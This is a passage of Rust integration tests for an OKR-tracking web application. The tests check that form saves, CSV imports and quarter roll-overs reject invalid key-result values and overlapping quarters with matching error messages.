            let mut form = vec![
                ("objective_id", objective_id.as_str()),
                ("title", "Sign 5 Nordic accounts"),
                ("owner_id", lisa.as_str()),
                ("unit", "#"),
                ("start_value", "0"),
                ("target_value", "5"),
                ("current_value", ""),
            ];
            for pair in form.iter_mut() {
                if pair.0 == field {
                    pair.1 = value;
                }
            }
            let (form_field, form_message) = form_refusal(&world, "save_key_result", &form).await;
            assert_eq!(form_field, field, "{form_message}");
            let bytes = if index == 9 {
                let mut row = NEW_OKR.to_vec();
                row.push(value);
                file(&format!("{OKR_HEADER},current"), &[row])
            } else {
                one_okr(&[(index, value)])
            };
            let id = upload(&world.server, Some(&world.emily), "okrs", "kr.csv", bytes)
                .await
                .expect("the upload");
            let shown = preview(&world.server, &world.emily, id).await;
            assert_eq!(shown.problem_count, 1, "{field}: {:#?}", shown.problems);
            let problem = &shown.problems[0];
            assert_eq!(
                (problem.column.as_str(), problem.message.as_str()),
                (column, form_message.as_str()),
                "{field}"
            );
        }
        assert_eq!(snapshot(db).await, before, "nothing was written");
        world.finish().await;
    }
);

migration::backend_test!(
    the_quarter_form_an_import_and_a_roll_over_refuse_an_overlapping_quarter_alike,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let db = world.db();
        // A short quarter of its own inside what would be 2025-Q2.
        let now = chrono::Utc::now().naive_utc();
        quarter::ActiveModel {
            id: Set(Uuid::new_v4()),
            label: Set("Spring push".to_owned()),
            start_at: Set(common::date(2025, 4, 15)),
            end_at: Set(common::date(2025, 5, 15)),
            organization_id: Set(None),
            archived: Set(false),
            notes: Set(None),
            created_at: Set(now),
            updated_at: Set(now),
        }
        .insert(db)
        .await
        .expect("a quarter of its own");
        let before = snapshot(db).await;

        let (field, message) = form_refusal(
            &world,
            "save_quarter",
            &[
                ("label", "2025-Q2"),
                ("start_at", "2025-04-01"),
                ("end_at", "2025-06-30"),
            ],
        )
        .await;
        assert_eq!(field, "start_at");
        assert!(message.contains("Spring push"), "{message}");

        let id = upload(
            &world.server,
            Some(&world.emily),
            "okrs",
            "q2.csv",
            one_okr(&[(0, "2025-Q2")]),
        )
        .await
        .expect("the upload");
        let shown = preview(&world.server, &world.emily, id).await;
        assert_eq!(shown.problem_count, 1, "{:#?}", shown.problems);
        assert_eq!(
            (
                shown.problems[0].column.as_str(),
                shown.problems[0].message.as_str()
            ),
            ("quarter", message.as_str())
        );

        let apac = objective::Entity::find()
            .filter(objective::Column::Title.eq("Expand Corporate Sales in APAC"))
            .one(db)
            .await
            .expect("query")
            .expect("the seeded objective");
        let apac_id = apac.id.to_string();
        let (field, rolled) = form_refusal(
            &world,
            "roll_over",
            &[("label", Q1), ("objective_ids[0]", apac_id.as_str())],
        )
        .await;
        assert_eq!(
            (field.as_str(), rolled.as_str()),
            ("start_at", message.as_str())
        );
        assert_eq!(snapshot(db).await, before, "nothing was written");
        world.finish().await;
    }
);
